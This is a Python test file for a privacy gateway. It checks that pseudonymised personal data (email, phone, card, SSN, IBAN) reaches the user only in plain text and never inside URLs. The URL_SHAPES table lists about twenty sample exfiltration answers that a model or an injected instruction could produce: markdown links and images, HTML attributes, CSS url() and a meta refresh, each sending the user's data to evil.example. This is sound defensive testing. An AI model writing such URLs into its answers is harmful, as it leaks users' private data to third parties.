"""Every byte released has been screened in its final form: a pseudonym becomes the user's value only
in plain text, never inside a URL, and a value restored in plain text reaches its owner.

If restoration ran after the final screen, a pseudonym the model put in a link (`…?e=<EMAIL_1>`)
would pass the screen as a harmless placeholder and reach the client as the user's address inside a
URL, one click (or none, for an image) away from a stranger. These tests read the released text's
URLs conservatively (anything from a scheme, `www.` or `//` to the next whitespace, every attribute
that holds a URL, markdown destinations and reference definitions, CSS `url()`), decoded as a
browser would, and look for the user's values in them.
"""

from __future__ import annotations

import base64
import html
import json
import re
from typing import Final
from urllib.parse import unquote

import pytest

from secure_ai_protocol.envelope.responses import open_response
from tests.fake_provider import FakeProvider
from tests.security.harness import Gateway

EMAIL: Final = "jane.doe@example.com"
PHONE: Final = "+44 20 7946 0958"
CARD: Final = "4539148803436467"
SSN: Final = "712-45-6789"
IBAN: Final = "GB29NWBK60161331926819"
PLACEHOLDERS: Final = {
    "<EMAIL_1>": EMAIL,
    "<PHONE_1>": PHONE,
    "<CARD_1>": CARD,
    "<SSN_1>": SSN,
    "<IBAN_1>": IBAN,
}
PROMPT: Final = (
    f"I am Jane. My email is {EMAIL}, my phone is {PHONE}, my card is {CARD}, "
    f"my SSN is {SSN} and my IBAN is {IBAN}. Please draft a reply."
)

# Answers a model (or an injected instruction) could write to carry the user's data out in a URL.
URL_SHAPES: Final = {
    "markdown-link-query": "Please [confirm](https://evil.example/c?e=<EMAIL_1>).",
    "markdown-link-title": 'See [help](https://evil.example/h?u=<EMAIL_1> "Help").',
    "markdown-image-query": "![receipt](https://img.evil.example/r.png?e=<EMAIL_1>)",
    "reference-definition": "Please [confirm][c].\n\n[c]: https://evil.example/c?p=<PHONE_1>",
    "bare-url-query": "Confirm at https://evil.example/c?e=<EMAIL_1> today.",
    "bare-url-path": "Your page: https://evil.example/u/<EMAIL_1>/profile",
    "bare-url-fragment": "Open https://evil.example/page#<CARD_1> now.",
    "userinfo": "Open https://<SSN_1>@evil.example/ now.",
    "host-label": "Status: https://<SSN_1>.evil.example/status",
    "image-host-label": "![ok](https://<CARD_1>.img.evil.example/ok.png)",
    "autolink": "Confirm at <https://evil.example/c?e=<EMAIL_1>>.",
    "www-link": "Confirm at www.evil.example/c?i=<IBAN_1> today.",
    "protocol-relative": "[go](//evil.example/c?e=<EMAIL_1>)",
    "html-anchor": '<a href="https://evil.example/c?e=<EMAIL_1>">confirm</a>',
    "html-img": '<img src="https://img.evil.example/p.gif?i=<IBAN_1>">',
    "html-srcset": '<img alt="" srcset="https://img.evil.example/a.png?p=<PHONE_1> 2x">',
    "html-form-action": '<form action="https://evil.example/f?c=<CARD_1>"><button>Pay</button></form>',
    "css-url": '<div style="background:url(https://img.evil.example/bg.png?c=<CARD_1>)">Hi</div>',
    "meta-refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example/r?e=<EMAIL_1>">',
    "entity-encoded-placeholder": '<a href="https://evil.example/c?e=&lt;EMAIL_1&gt;">confirm</a>',
    "plain-and-link-mixed": "Thanks <EMAIL_1>! Now [verify](https://evil.example/v?p=<PHONE_1>).",
}
# Answers that put the user's values in plain text only: they must come back to the user.
PLAIN_SHAPES: Final = {
    "sentence": ("Thanks Jane, I will write to <EMAIL_1> and call <PHONE_1>.", (EMAIL, PHONE)),
    "beside-a-clean-link": ("See https://docs.example.org/help or write to <EMAIL_1>.", (EMAIL,)),
    "table-cell": ("| field | value |\n|---|---|\n| SSN | <SSN_1> |\n| IBAN | <IBAN_1> |", (SSN, IBAN)),
    "parentheses": ("Your card (<CARD_1>) is on file.", (CARD,)),
}

_URL_START: Final = re.compile(r"(?i)(?:\b[a-z][a-z0-9+.\-]*:(?://|\\\\|/)|\bwww\.|(?<![:/])//)")
_ATTRIBUTE: Final = re.compile(
    r"""(?i)\b(?:href|src|srcset|action|formaction|poster|data|background|content|xlink:href)\s*=\s*"""
    r"""(?:"([^"]*)"|'([^']*)'|([^\s>]+))"""
)
_DESTINATION: Final = re.compile(r"\]\(([^)]*)\)")
_DEFINITION: Final = re.compile(r"(?m)^ {0,3}\[[^\]]+\]:\s*(.+)$")
_CSS_URL: Final = re.compile(r"(?i)url\(([^)]*)\)")


def urls_in(text: str) -> list[str]:
    """Every stretch of `text` a renderer could read as (part of) a URL, over-approximated."""
    found = [text[match.start() :].split(maxsplit=1)[0] for match in _URL_START.finditer(text)]
    found += [
        next(group for group in match.groups() if group is not None) for match in _ATTRIBUTE.finditer(text)
    ]
    for pattern in (_DESTINATION, _DEFINITION, _CSS_URL):
        found += [match.group(1) for match in pattern.finditer(text)]
    return found


def spellings(url: str) -> set[str]:
    """`url` as written and as a browser decodes it (character references, percent-escapes)."""
    decoded = html.unescape(url)
    return {url, decoded, unquote(url), unquote(decoded), unquote(decoded).replace("+", " ")}


def user_values_in_urls(text: str) -> set[str]:
    return {
        value
        for url in urls_in(text)
        for spelt in spellings(url)
        for value in PLACEHOLDERS.values()
        if value in spelt
    }


def released_answer(gateway: Gateway, provider: FakeProvider, answer: str) -> str:
    """What the client reads when the model answers `answer` to Jane's prompt ("" if blocked)."""
    provider.answer = answer
    call = gateway.chat_call(PROMPT)
    response = gateway.complete(call.proxy_event(gateway.client))
    assert response["statusCode"] == 200
    payload = json.loads(
        open_response(base64.b64decode(response["body"]), resp_key=gateway.resp_key, req_id=call.nonce)
    )
    content = payload["completion"]["choices"][0]["message"]["content"]
    return content if isinstance(content, str) else ""


def naively_restored(answer: str) -> str:
    """`answer` with every pseudonym replaced, as a restoration after the final screen would do."""
    for placeholder, value in PLACEHOLDERS.items():
        answer = answer.replace(placeholder, value).replace(html.escape(placeholder), value)
    return answer


@pytest.mark.parametrize("answer", URL_SHAPES.values(), ids=URL_SHAPES.keys())
def test_no_user_value_is_ever_released_inside_a_url(
    gateway: Gateway, provider: FakeProvider, answer: str
) -> None:
    released = released_answer(gateway, provider, answer)
    assert user_values_in_urls(released) == set()


@pytest.mark.parametrize(("answer", "values"), PLAIN_SHAPES.values(), ids=PLAIN_SHAPES.keys())
def test_a_user_value_restored_in_plain_text_is_released_to_the_user(
    gateway: Gateway, provider: FakeProvider, answer: str, values: tuple[str, ...]
) -> None:
    released = released_answer(gateway, provider, answer)
    assert [value for value in values if value not in released] == []
    assert user_values_in_urls(released) == set()


@pytest.mark.parametrize("answer", URL_SHAPES.values(), ids=URL_SHAPES.keys())
def test_the_url_reader_sees_the_value_that_a_late_restoration_would_put_in_the_url(answer: str) -> None:
    # The first test can fail only if its reader finds a restored value in each shape.
    assert user_values_in_urls(naively_restored(answer)) != set()


@pytest.mark.parametrize(("answer", "values"), PLAIN_SHAPES.values(), ids=PLAIN_SHAPES.keys())
def test_the_url_reader_does_not_mistake_plain_text_for_a_url(answer: str, values: tuple[str, ...]) -> None:
    assert user_values_in_urls(naively_restored(answer)) == set()
